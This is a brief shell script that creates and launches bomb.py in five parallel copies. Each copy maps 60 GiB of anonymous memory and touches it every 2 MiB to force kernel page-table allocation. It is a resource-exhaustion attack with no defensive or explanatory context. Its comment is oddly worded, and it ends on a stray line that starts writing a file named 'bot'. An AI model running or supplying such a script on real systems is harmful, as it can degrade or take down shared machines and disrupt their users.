# Takes tables of the kernel for many addresses that it only reads, in several processes.
cat > bomb.py <<'P'
import mmap, time
size = 60 << 30
sparse = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
for address in range(0, size, 2 << 20):
    sparse[address]
time.sleep(2)
P
for _ in 1 2 3 4 5; do
    python3 -I -S bomb.py &
done
wait
printf '#!/bin/sh\n' > bot
